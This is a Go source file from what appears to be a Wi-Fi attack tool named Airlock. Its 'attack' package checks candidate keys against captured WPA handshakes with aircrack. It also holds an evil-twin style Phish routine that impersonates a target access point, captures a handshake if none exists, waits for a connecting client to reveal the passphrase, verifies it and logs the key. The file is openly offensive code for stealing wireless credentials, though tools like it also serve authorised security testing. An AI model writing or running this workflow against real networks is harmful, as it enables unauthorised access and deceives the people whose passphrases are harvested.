package attack

import (
	"context"
	"fmt"
	"io"
	"os"

	"Airlock/internal/aircrack"
	"Airlock/internal/target"
	"Airlock/pkg/logger"
	"Airlock/pkg/models"
)

// VerifyKey checks key against the stored handshake of t. A correct key
// ends up in the key slot.
func (a *Attacker) VerifyKey(ctx context.Context, t *target.Target, key string) (bool, error) {
	if !t.Has(target.Handshake) {
		return false, fmt.Errorf("verify key of %s: handshake: %w", t, target.ErrArtifactMissing)
	}
	scratch, err := os.MkdirTemp("", "airlock-verify-")
	if err != nil {
		return false, err
	}
	defer os.RemoveAll(scratch)

	dictionary, err := aircrack.SingleCandidate(scratch, key)
	if err != nil {
		return false, err
	}
	return a.crackWith(ctx, t, dictionary)
}

// Phish impersonates t until a client hands over the passphrase, then
// checks it against a handshake, capturing one first if needed.
func (a *Attacker) Phish(ctx context.Context, t *target.Target, display io.Writer) error {
	if t.Encryption != models.WPA && t.Encryption != models.WPA2 {
		return fmt.Errorf("phish %s: %q: %w", t, t.Encryption, ErrUnsupportedEncryption)
	}
	unlock, err := t.Lock()
	if err != nil {
		return err
	}
	defer func() {
		if err := unlock(); err != nil {
			logger.Warnf("Unlock %s: %v", t.Dir(), err)
		}
	}()

	if !t.Has(target.Handshake) {
		if err := a.captureHandshake(ctx, t); err != nil {
			return err
		}
	}

	password, err := a.catchPassword(ctx, t, display)
	if err != nil {
		return err
	}
	logger.Infof("[*] Caught a passphrase for %s, verifying it", t)
	ok, err := a.VerifyKey(ctx, t, password)
	if err != nil {
		return err
	}
	if !ok {
		return fmt.Errorf("%s: %w", t, ErrIncorrectCredential)
	}
	logger.Infof("[+] Key of %s: %s", t, password)
	return nil
}

func (a *Attacker) catchPassword(ctx context.Context, t *target.Target, display io.Writer) (string, error) {
	g := a.newGroup("phish", t)
	defer closeGroup(g)

	phisher, err := a.tools.Phisher(t.AccessPoint, display)
	if err != nil {
		return "", err
	}
	g.Adopt(phisher)
	for {
		if err := phisher.Update(); err != nil {
			return "", err
		}
		if password, ok := phisher.Password(); ok {
			return password, nil
		}
		if phisher.Terminated() {
			return "", fmt.Errorf("phishing %s ended without a passphrase: %w", t, ErrNotCracked)
		}
		if err := wait(ctx, a.poll()); err != nil {
			return "", err
		}
	}
}
